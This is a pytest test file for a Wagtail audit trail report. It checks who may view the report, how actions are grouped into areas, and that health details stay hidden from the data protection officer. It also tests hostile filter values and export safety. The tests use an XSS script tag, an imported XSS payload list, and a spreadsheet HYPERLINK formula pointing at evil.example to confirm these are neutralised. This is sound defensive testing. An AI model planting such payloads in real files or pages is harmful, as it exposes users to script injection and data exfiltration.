"""One audit trail (issue 16): Wagtail's log and Kindred's actions in one admin report.

Reports › Audit trail (``audit.trail``): superusers and the Data protection
group only; an area per part of the organisation's records; filters that
answer hostile input in words; CSV and XLSX exports without live formulas; no
page title or Wagtail message (which can quote titles and comments) shown to a
reader who may not read content.
"""

import csv
import io
from datetime import timedelta

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from wagtail.log_actions import log
from wagtail.log_actions import registry as log_registry
from wagtail.models import ModelLogEntry, PageLogEntry, Site

import pytest
from openpyxl import load_workbook

from audit.trail import AREAS, PAGES, area_of
from audit.trail_hooks import AuditTrailMenuItem
from compliance.services.retention import retention_enforce
from core import roles
from core.models import CommunityMembership
from discussion.models import PageComment
from discussion.selectors import page_content_type
from discussion.services import comment_moderate
from moderation.services import page_submit_for_review, review_approve
from safety.models import SafetyCase
from safety.services import case_open, case_update
from tests.factories import BlogPageFactory, UserFactory
from tests.factories.communities import CommunityMembershipFactory, CommunityPageFactory
from tests.xss import PAYLOADS

pytestmark = pytest.mark.django_db

INDEX = "kindred_audit_trail:index"
RESULTS = "kindred_audit_trail:results"
# What a member might title their story: health text the data-protection officer must not see.
HEALTH_TITLE = "My relapse after stopping Tecfidera"


@pytest.fixture
def officer(portal):
    return UserFactory(group=roles.DATA_PROTECTION, display_name="Data protection officer")


@pytest.fixture
def pharmacovigilance(portal):
    return UserFactory(group=roles.PHARMACOVIGILANCE, display_name="PV officer")


def _trail(client, viewer, **params):
    client.force_login(viewer)
    return client.get(reverse(INDEX), params)


def _entries(response):
    """The decorated log entries the report listed."""
    return list(response.context["object_list"])


def _found(response, action):
    return [entry for entry in _entries(response) if entry.action == action]


def _csv(response):
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --- Who sees it ---


@pytest.mark.parametrize("fixture_name", ["editor", "medic", "manager", "pharmacovigilance"])
def test_other_staff_are_refused(client, request, fixture_name):
    user = request.getfixturevalue(fixture_name)
    client.force_login(user)

    for url, params in (
        (reverse(INDEX), {}),
        (reverse(RESULTS), {}),
        (reverse(INDEX), {"export": "csv"}),
        (reverse(INDEX), {"export": "xlsx"}),
    ):
        assert client.get(url, params).status_code == 403, (url, params)


@pytest.mark.parametrize("fixture_name", ["member", "expert"])
def test_members_are_sent_away_as_from_the_whole_admin(client, request, fixture_name):
    client.force_login(request.getfixturevalue(fixture_name))

    response = client.get(reverse(INDEX))

    assert response.status_code == 302
    assert not response.url.startswith("/admin/")


def test_visitors_are_sent_to_sign_in(client, portal):
    response = client.get(reverse(INDEX))

    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))


def test_the_address_is_the_reports_one(portal):
    assert reverse(INDEX) == "/admin/reports/audit-trail/"


def test_superusers_and_data_protection_read_it_and_see_the_menu_item(
    client, rf, superuser, officer, editor
):
    item = AuditTrailMenuItem("Audit trail", reverse(INDEX))
    for user in (superuser, officer):
        assert _trail(client, user).status_code == 200
        request = rf.get("/admin/")
        request.user = user
        assert item.is_shown(request)
    request = rf.get("/admin/")
    request.user = editor
    assert not item.is_shown(request)


# --- The areas: one table, every Kindred action labelled ---


def test_no_area_prefix_begins_another_areas():
    prefixes = [(p, key) for key, area in AREAS.items() for p in area.actions]
    for prefix, key in prefixes:
        for other, other_key in prefixes:
            if key != other_key:
                assert not other.startswith(prefix), (prefix, other)


def test_every_kindred_action_has_a_readable_label_and_an_area(portal):
    kindred = [
        (action, str(label))
        for action, label in log_registry.get_choices()
        if action.startswith(("kindred.", "discussion."))
    ]
    assert len(kindred) >= 15  # communities, discussion, safety, authoring, questions, retention
    for action, label in kindred:
        assert label and label != action and not label.startswith("kindred"), action
        assert area_of(action, None) in AREAS
    # What is registered now, mapped where the issue puts it.
    areas = {action: area_of(action, None) for action, _ in kindred}
    for action, area in areas.items():
        if action.startswith("kindred.consent."):
            assert area == "consents"
        if action.startswith(("kindred.export.", "kindred.erasure.", "kindred.retention.")):
            assert area == "data_rights"
        if action.startswith("kindred.safety."):
            assert area == "safety"
        if action.startswith("kindred.community."):
            assert area == "communities"
        if action.startswith("discussion."):
            assert area == "moderation"
    assert areas["kindred.retention.run"] == "data_rights"
    assert areas["kindred.sharing.withdraw"] == "consents"


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        ("wagtail.workflow.approve", "moderation"),
        ("wagtail.workflow.reject", "moderation"),
        ("wagtail.publish", PAGES),
        ("wagtail.edit", PAGES),
        ("kindred.audience.narrow", PAGES),
    ],
)
def test_wagtails_own_actions_fall_in_their_areas(action, expected):
    assert area_of(action, None) == expected


# --- Each area: the real action, found in the report under its area ---


def _in_area(client, user, area, action):
    response = _trail(client, user, area=area)
    assert response.status_code == 200
    found = _found(response, action)
    assert found, f"{action} not listed under {area}"
    assert all(entry.area_key == area for entry in _entries(response))
    return found


def test_a_page_published_is_pages_and_content_and_named_by_id_to_data_protection(
    client, officer, superuser, blog_index
):
    page = BlogPageFactory(parent=blog_index, title=HEALTH_TITLE)
    page.save_revision(user=superuser).publish(user=superuser)

    found = _in_area(client, officer, PAGES, "wagtail.publish")

    assert any(entry.trail_label == f"Page {page.pk}" for entry in found)
    response = _trail(client, officer)
    assert HEALTH_TITLE not in response.content.decode()
    edit_url = reverse("wagtailadmin_pages:edit", args=(page.pk,))
    assert edit_url not in response.content.decode()
    # Superusers see the titles and the editor's link, as in Wagtail's Site history;
    # a page deleted since is no link.
    body = _trail(client, superuser).content.decode()
    assert HEALTH_TITLE in body and edit_url in body
    page.delete()
    assert edit_url not in _trail(client, superuser).content.decode()


def test_a_community_managers_membership_decision_is_in_communities(
    client, officer, manager, community_index
):
    community = CommunityPageFactory(parent=community_index, title="Carers")
    membership = CommunityMembershipFactory(
        community=community, state=CommunityMembership.State.ACTIVE
    )
    client.force_login(manager)
    response = client.post(
        reverse("memberships:edit", args=(membership.pk,)),
        {"role": CommunityMembership.Role.MODERATOR},
    )
    assert response.status_code == 302

    found = _in_area(client, officer, "communities", "wagtail.edit")

    assert any(entry.user_id == manager.pk for entry in found)


def test_a_change_of_community_settings_is_a_policy_change_in_communities(
    client, officer, superuser
):
    site = Site.objects.get(is_default_site=True)
    client.force_login(superuser)
    response = client.post(
        reverse("wagtailsettings:edit", args=("core", "communitysettings", site.pk)),
        {"allow_anonymous_ratings": "on"},
    )
    assert response.status_code == 302

    found = _in_area(client, officer, "communities", "wagtail.edit")

    assert any(entry.content_type.model == "communitysettings" for entry in found)


def test_a_change_of_the_sharing_policy_is_in_sharing(client, officer, manager):
    site = Site.objects.get(is_default_site=True)
    client.force_login(manager)
    response = client.post(
        reverse("wagtailsettings:edit", args=("sharing", "sharingsettings", site.pk)),
        {"needs_author_consent": "on"},
    )
    assert response.status_code == 302

    found = _in_area(client, officer, "sharing", "wagtail.edit")

    assert [entry.user_id for entry in found] == [manager.pk]
    assert found[0].trail_message == "Edit"


def test_a_comment_moderation_decision_is_in_moderation(client, officer, editor, blog_index):
    page = BlogPageFactory(parent=blog_index)
    commenter = UserFactory(group=roles.MEMBERS)
    comment = PageComment(
        content_type=page_content_type(),
        object_pk=str(page.pk),
        site_id=1,
        user=commenter,
        user_name=commenter.public_name,
        comment="Since the new dose I cannot sleep",
        submit_date=timezone.now() - timedelta(minutes=5),
        is_public=False,
        awaiting_moderation=True,
        parent_id=0,
    )
    comment.save()

    comment_moderate(moderator=editor, comment=comment, action="approve")

    found = _in_area(client, officer, "moderation", "discussion.comment.approve")
    assert found[0].trail_label == f"Comment #{comment.pk} on page {page.pk}"
    assert "cannot sleep" not in _trail(client, officer).content.decode()


def test_a_review_decision_is_in_moderation_without_its_comment(
    client, officer, superuser, member, editor, blog_index
):
    post = BlogPageFactory(parent=blog_index, author=member, publish=False, title=HEALTH_TITLE)
    page_submit_for_review(page=post, user=member)
    review_approve(page=post, user=editor, comment="Tone is fine; the dose detail stays")

    found = _in_area(client, officer, "moderation", "wagtail.workflow.approve")

    assert [entry.user_id for entry in found] == [editor.pk]
    assert found[0].trail_label == f"Page {post.pk}"
    body = _trail(client, officer, area="moderation").content.decode()
    assert "dose detail" not in body and HEALTH_TITLE not in body


def test_a_safety_case_and_its_changes_are_in_safety_without_their_text(
    client, officer, superuser, pharmacovigilance, blog_index
):
    page = BlogPageFactory(parent=blog_index)
    case = case_open(
        origin=SafetyCase.Origin.MANUAL,
        excerpt="Rash after the second infusion",
        page=page,
        opened_by=superuser,
    )
    case_update(case=case, user=pharmacovigilance, medicine="Ocrevus", event="Severe rash")

    _in_area(client, officer, "safety", "kindred.safety.case_opened")
    _in_area(client, officer, "safety", "kindred.safety.case_updated")
    for user in (officer, superuser):
        body = _trail(client, user, area="safety").content.decode()
        # The log's data (old and new values) is never shown, to anyone.
        assert "Ocrevus" not in body and "Severe rash" not in body and "infusion" not in body
        assert case.reference in body


def test_a_retention_run_and_a_retention_change_are_in_data_rights(client, officer):
    retention_enforce()

    found = _in_area(client, officer, "data_rights", "kindred.retention.run")

    assert found[0].trail_message == "Retention enforced"
    assert found[0].user_id is None


def test_a_consent_given_through_its_service_is_in_consents(client, officer, member):
    """The consent ledger logs each grant as ``kindred.consent.grant`` (accounts.services)."""
    from accounts.services import consent_give

    consent_give(user=member, kind="guidelines")

    _in_area(client, officer, "consents", "kindred.consent.grant")


# --- Filters ---


@pytest.fixture
def mixed_entries(superuser, editor, blog_index):
    """Entries by two people on two days, in two areas."""
    page = BlogPageFactory(parent=blog_index)
    old = log(instance=page, action="wagtail.edit", user=editor)
    PageLogEntry.objects.filter(pk=old.pk).update(timestamp=timezone.now() - timedelta(days=40))
    retention_enforce()
    log(instance=page, action="wagtail.publish", user=superuser)
    return page


def test_the_area_filter_lists_only_its_area(client, officer, mixed_entries):
    everything = _entries(_trail(client, officer))
    data_rights = _entries(_trail(client, officer, area="data_rights"))

    assert {entry.area_key for entry in everything} >= {PAGES, "data_rights"}
    assert [entry.action for entry in data_rights] == ["kindred.retention.run"]


def test_the_user_filter(client, officer, editor, mixed_entries):
    listed = _entries(_trail(client, officer, user=editor.pk))

    assert listed and {entry.user_id for entry in listed} == {editor.pk}


def test_the_date_range_filter(client, officer, mixed_entries):
    today = timezone.localdate()
    recent = _entries(
        _trail(client, officer, timestamp_from=(today - timedelta(days=1)).isoformat())
    )
    old = _entries(
        _trail(
            client,
            officer,
            timestamp_from=(today - timedelta(days=41)).isoformat(),
            timestamp_to=(today - timedelta(days=39)).isoformat(),
        )
    )

    assert "wagtail.edit" not in {entry.action for entry in recent}
    assert [entry.action for entry in old] == ["wagtail.edit"]


def test_the_action_filter(client, officer, mixed_entries):
    listed = _entries(_trail(client, officer, action="wagtail.publish"))

    assert listed and {entry.action for entry in listed} == {"wagtail.publish"}


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"area": "nowhere"}, "Area"),
        ({"area": "<script>alert(1)</script>"}, "Area"),
        ({"timestamp_from": "not a date"}, "Date"),
        ({"timestamp_from": "2026-02-30"}, "Date"),
        ({"timestamp_from": "0001-01-01"}, "Choose dates between"),
        ({"timestamp_to": "9999-12-31"}, "Choose dates between"),
        ({"timestamp_from": "2026-12-10", "timestamp_to": "2026-12-01"}, "ends before it starts"),
        ({"user": "abc"}, "User"),
        ({"user": "99999999"}, "User"),
        ({"action": "wagtail.nothing"}, "Action"),
        ({"area": "x" * 10000}, "Area"),
        ({"object_type": "-1"}, "Type"),
    ],
)
def test_hostile_filters_are_answered_in_words_and_list_nothing(
    client, officer, mixed_entries, params, message
):
    response = _trail(client, officer, **params)

    assert response.status_code == 200
    assert _entries(response) == []
    assert "These filters cannot be applied" in response.content.decode()
    assert message in " ".join(response.context["filter_errors"])
    assert "<script>alert(1)</script>" not in response.content.decode()


@pytest.mark.parametrize("page", ["abc", "-1", "999999"])
def test_a_page_number_out_of_range_is_no_error(client, officer, mixed_entries, page):
    response = _trail(client, officer, p=page)

    assert response.status_code in (200, 404)


@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_a_superusers_name_filter_is_harmless(client, superuser, mixed_entries, payload):
    response = _trail(client, superuser, label=payload)

    assert response.status_code == 200
    assert payload not in response.content.decode() or payload.isalnum()


def test_data_protection_has_no_name_filter_to_probe_titles_with(
    client, officer, superuser, blog_index
):
    page = BlogPageFactory(parent=blog_index, title=HEALTH_TITLE)
    log(instance=page, action="wagtail.edit", user=superuser)

    response = _trail(client, officer, label="Tecfidera")

    assert "label" not in response.context["view"].filters.form.fields
    # The parameter is ignored: the whole trail, not an answer about the title.
    assert len(_entries(response)) == len(_entries(_trail(client, officer)))
    assert "label" in _trail(client, superuser).context["view"].filters.form.fields


# --- Exports ---


def test_csv_export_has_the_areas_and_no_titles_for_data_protection(
    client, officer, superuser, blog_index
):
    page = BlogPageFactory(parent=blog_index, title=HEALTH_TITLE)
    log(instance=page, action="wagtail.edit", user=superuser)
    retention_enforce()
    client.force_login(officer)

    response = client.get(reverse(INDEX), {"export": "csv"})

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="audit-trail-')
    rows = _csv(response)
    assert rows[0] == ["Date/Time (UTC)", "Area", "Action", "User", "Type", "ID", "Name"]
    by_action = {(row[1], row[2], row[6]) for row in rows[1:]}
    assert ("Data rights", "Retention enforced", "Retention") in by_action
    assert ("Pages and content", "Edit", f"Page {page.pk}") in by_action
    assert HEALTH_TITLE not in "".join(",".join(row) for row in rows)


def test_the_report_offers_both_downloads_with_its_filters(client, officer, mixed_entries):
    response = _trail(client, officer, area="data_rights")

    body = response.content.decode()
    assert "Download CSV" in body and "Download XLSX" in body
    assert "export=csv" in body and "area=data_rights" in body


def test_csv_export_follows_the_filters(client, officer, mixed_entries):
    client.force_login(officer)

    rows = _csv(client.get(reverse(INDEX), {"export": "csv", "area": "data_rights"}))

    assert [row[1] for row in rows[1:]] == ["Data rights"]


def test_exports_neutralise_formulas(client, superuser, blog_index):
    page = BlogPageFactory(parent=blog_index, title="Safe title")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    log(instance=page, action="wagtail.edit", user=superuser, title=formula)
    for prefix in ("+1+1", "-2+3", "@SUM(A1)"):
        log(instance=page, action="wagtail.edit", user=superuser, title=prefix)
    client.force_login(superuser)

    rows = _csv(client.get(reverse(INDEX), {"export": "csv"}))
    names = {row[6] for row in rows[1:]}
    assert "'" + formula in names
    assert {"'+1+1", "'-2+3", "'@SUM(A1)"} <= names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)

    response = client.get(reverse(INDEX), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[6] for row in sheet.iter_rows(min_row=2)]
    formula_cell = next(cell for cell in cells if cell.value == formula)
    assert formula_cell.data_type == "s"  # text, not a formula


def test_xlsx_export_has_the_same_rows(client, officer, mixed_entries):
    client.force_login(officer)

    response = client.get(reverse(INDEX), {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Date/Time (UTC)", "Area", "Action", "User", "Type", "ID", "Name")
    assert len(rows) - 1 == len(_csv(client.get(reverse(INDEX), {"export": "csv"}))) - 1
    assert "Data rights" in {row[1] for row in rows[1:]}


def test_exports_are_refused_with_hostile_filters_in_words(client, officer, mixed_entries):
    client.force_login(officer)

    response = client.get(reverse(INDEX), {"export": "csv", "timestamp_from": "nonsense"})

    # Never a download of everything for a filter that was not understood (core.reports).
    assert response.status_code == 400
    assert "could not be read" in response.content.decode()


# --- Query count ---


def _many_entries(n, *, superuser, editor, blog_index, community_index):
    page = BlogPageFactory(parent=blog_index)
    community = CommunityPageFactory(parent=community_index, title=f"Carers {n}")
    for i in range(n):
        log(instance=page, action="wagtail.edit", user=editor if i % 2 else superuser)
        log(instance=community, action="wagtail.publish", user=superuser)
    retention_enforce()  # a model entry, in Data rights


@pytest.mark.parametrize("fixture_name", ["officer", "superuser"])
def test_the_report_costs_the_same_queries_for_5_and_50_entries(
    client, request, superuser, editor, blog_index, community_index, fixture_name
):
    user = request.getfixturevalue(fixture_name)
    client.force_login(user)

    def count(n):
        PageLogEntry.objects.all().delete()
        ModelLogEntry.objects.all().delete()
        _many_entries(
            n,
            superuser=superuser,
            editor=editor,
            blog_index=blog_index,
            community_index=community_index,
        )
        client.get(reverse(INDEX))  # warm the caches (content types, the user's perms)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse(INDEX))
        assert response.status_code == 200
        return len(queries)

    few, many = count(5), count(50)

    assert few == many
    assert many <= 40


def test_the_report_page_has_a_ceiling(
    client, django_assert_max_num_queries, officer, superuser, editor, blog_index, community_index
):
    _many_entries(
        30,
        superuser=superuser,
        editor=editor,
        blog_index=blog_index,
        community_index=community_index,
    )
    client.force_login(officer)
    client.get(reverse(INDEX))

    with django_assert_max_num_queries(40):
        response = client.get(reverse(INDEX), {"area": PAGES})

    assert response.status_code == 200
